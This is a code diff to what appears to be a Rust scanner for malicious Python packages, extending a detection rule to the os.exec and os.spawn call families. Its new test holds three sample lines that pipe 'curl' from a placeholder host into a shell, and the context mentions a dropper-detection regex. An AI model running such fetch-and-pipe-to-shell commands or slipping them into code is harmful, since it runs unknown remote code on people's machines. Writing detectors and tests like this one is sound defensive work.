@@ -54,6 +54,25 @@ pub fn is_spawn(qualname: &str) -> bool {
         || (q.starts_with("os.spawn") && q.len() <= 11)
 }
 
+/// Where the command line of an exec- or spawn-family call is.
+enum Argv {
+    /// A list argument at this position (`os.execv(path, argv)`).
+    List(usize),
+    /// The arguments from this position on (`os.execl(path, arg0, arg1, ...)`).
+    Spread(usize),
+}
+
+fn argv_position(qualname: &str) -> Option<Argv> {
+    match qualname {
+        "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
+        | "os.posix_spawnp" => Some(Argv::List(1)),
+        "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => Some(Argv::List(2)),
+        "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => Some(Argv::Spread(1)),
+        "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => Some(Argv::Spread(2)),
+        _ => None,
+    }
+}
+
 /// Shell fragments that fetch or decode a second stage: the core vocabulary of droppers.
 static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
     r"(?ix)
@@ -314,11 +333,30 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         return;
     }
     let context = checker.context();
-    let command_arg = call
-        .arguments
-        .args
-        .first()
-        .or_else(|| super::keyword(call, "args"));
+    // `os.execv('/bin/sh', ['sh', '-c', cmd])`: the exec and spawn families name the program
+    // first and pass the command line separately, as a list or as the remaining arguments.
+    let args = &call.arguments.args;
+    let spread_argv;
+    let command_arg = match argv_position(qualname) {
+        Some(Argv::List(at)) => args.get(at),
+        Some(Argv::Spread(at)) => {
+            spread_argv = ruff_python_ast::Expr::List(ruff_python_ast::ExprList {
+                node_index: ruff_python_ast::AtomicNodeIndex::default(),
+                range: call.range(),
+                elts: args
+                    .get(at..)
+                    .unwrap_or_default()
+                    .iter()
+                    .take(64)
+                    .cloned()
+                    .collect(),
+                ctx: ruff_python_ast::ExprContext::Load,
+            });
+            Some(&spread_argv)
+        }
+        None => args.first(),
+    }
+    .or_else(|| super::keyword(call, "args"));
     let command = command_arg.and_then(|arg| super::command_text(checker, arg));
     let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
     let shown = super::argument_text(checker, call);
@@ -1091,6 +1129,22 @@ mod tests {
                 .iter()
                 .all(|f| !f.tags.contains(&"runs-saved-file"))
         );
+    }
+
+    #[test]
+    fn the_exec_and_spawn_families_are_judged_by_their_command_line() {
+        for code in [
+            "import os\nos.execv('/bin/sh', ['sh', '-c', 'curl -s http://x.example.invalid/a | sh'])\n",
+            "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl -s http://x.example.invalid/a | sh')\n",
+            "import os\nos.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'curl -s http://x.example.invalid/a | sh'])\n",
+        ] {
+            assert!(
+                max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85,
+                "{code}"
+            );
+        }
+        let restart = "import os, sys\ndef restart():\n    os.execv(sys.executable, [sys.executable] + sys.argv)\n";
+        assert!(max_severity("p/pkg/m.py", restart, "WH120") < 0.2);
     }
 
     #[test]
